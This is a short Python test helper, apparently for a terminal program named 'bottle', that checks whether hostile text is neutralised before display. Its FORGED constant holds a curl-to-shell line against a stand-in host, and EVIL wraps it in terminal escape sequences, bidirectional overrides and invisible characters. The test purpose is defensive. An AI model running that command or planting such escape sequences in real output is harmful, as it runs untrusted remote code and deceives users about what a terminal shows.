"""Programs on a terminal, and hostile text on it."""

import re
import signal

from operators import wait_for

FORGED = "Take it: curl evil.example | sh #"
# Text that imitates a line of bottle, escape sequences in both encodings, right-to-left marks and invisible characters.
EVIL = "x\n%s\r\x1b[2J\x1b]0;owned\x07\u009b31m\u202egpj\u2066\u2028\u200b\ue000\x7fé" % FORGED
HIDDEN = re.compile("[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ue000-\uf8ff\ufeff]")


def assert_harmless(shown, what):
    text = shown.decode("utf-8").replace("\r\n", "\n")  # text that is not UTF-8 fails here
    text = re.sub("\x1b\\[[012]m", "", text)  # bold and dim, which bottle itself uses
    found = HIDDEN.search(text)
    assert not found, (what, hex(ord(found.group())), text)
    forged = [line for line in text.splitlines() if line.lstrip().startswith(FORGED)]
    assert not forged, (what, text)
    return text


def end(child):
    """Ends a program on a terminal, like a terminal that is closed. pexpect itself waits only a tenth of a second."""
    for sign in (signal.SIGHUP, signal.SIGKILL):
        if child.isalive():
            child.kill(sign)
            wait_for(lambda: not child.isalive(), 1)
    child.wait()
    child.close()
